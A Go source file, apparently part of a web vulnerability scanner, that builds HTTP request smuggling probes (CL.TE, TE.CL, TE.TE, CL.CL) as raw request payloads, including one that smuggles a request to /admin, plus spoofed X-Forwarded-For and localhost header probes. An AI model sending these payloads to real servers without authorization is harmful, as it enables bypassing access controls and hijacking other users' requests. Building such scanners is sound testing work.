package generate

import (
	"fmt"
	"net/http"

	"github.com/probekit/probekit/pkg/probe"
)

// SmugglingSource generates raw-socket candidates carrying pre-built
// requests with conflicting framing headers, plus header candidates
// probing forwarded-header trust. Techniques follow PortSwigger's
// request smuggling research.
type SmugglingSource struct{}

func (SmugglingSource) Name() string { return "smuggle" }

func (SmugglingSource) Candidates(t probe.Target) []probe.Candidate {
	host := t.Host
	var out []probe.Candidate

	for _, p := range []struct {
		label string
		raw   string
	}{
		{"CL.TE", clTE(host)},
		{"TE.CL", teCL(host)},
		{"TE.TE", teTE(host)},
		{"CL.CL", clCL(host)},
	} {
		out = append(out, probe.Candidate{
			Kind:  probe.KindRaw,
			Raw:   []byte(p.raw),
			Label: p.label,
		})
	}

	// Forwarded-header trust probes go through the regular HTTP prober.
	for _, h := range []struct{ name, value string }{
		{"X-Forwarded-For", "127.0.0.1"},
		{"X-Real-IP", "127.0.0.1"},
		{"X-Forwarded-Host", "localhost"},
	} {
		out = append(out, probe.Candidate{
			Kind:        probe.KindHeader,
			Method:      http.MethodGet,
			Path:        "/admin",
			Header:      h.name,
			HeaderValue: h.value,
			Label:       "forwarded-header",
		})
	}
	return out
}

// clTE declares a short Content-Length and a chunked body whose
// terminator never arrives; a CL-first front end forwards the stub and
// a TE-first back end stalls on it.
func clTE(host string) string {
	return fmt.Sprintf("POST / HTTP/1.1\r\n"+
		"Host: %s\r\n"+
		"Content-Type: application/x-www-form-urlencoded\r\n"+
		"Content-Length: 4\r\n"+
		"Transfer-Encoding: chunked\r\n"+
		"\r\n"+
		"1\r\n"+
		"Z\r\n"+
		"Q", host)
}

// teCL terminates the chunked body immediately but leaves trailing
// bytes a CL-first back end reads as the start of a second request.
func teCL(host string) string {
	return fmt.Sprintf("POST / HTTP/1.1\r\n"+
		"Host: %s\r\n"+
		"Content-Type: application/x-www-form-urlencoded\r\n"+
		"Content-Length: 6\r\n"+
		"Transfer-Encoding: chunked\r\n"+
		"\r\n"+
		"0\r\n"+
		"\r\n"+
		"X", host)
}

// teTE sends duplicate Transfer-Encoding headers; parsers that honor
// different occurrences disagree on the framing.
func teTE(host string) string {
	return fmt.Sprintf("POST / HTTP/1.1\r\n"+
		"Host: %s\r\n"+
		"Content-Length: 4\r\n"+
		"Transfer-Encoding: chunked\r\n"+
		"Transfer-encoding: identity\r\n"+
		"\r\n"+
		"1\r\n"+
		"Z\r\n"+
		"Q", host)
}

// clCL sends duplicate Content-Length headers with different values.
func clCL(host string) string {
	return fmt.Sprintf("GET / HTTP/1.1\r\n"+
		"Host: %s\r\n"+
		"Content-Length: 3\r\n"+
		"Content-Length: 0\r\n"+
		"\r\n"+
		"GET /admin HTTP/1.1\r\n"+
		"Host: %s\r\n"+
		"\r\n", host, host)
}
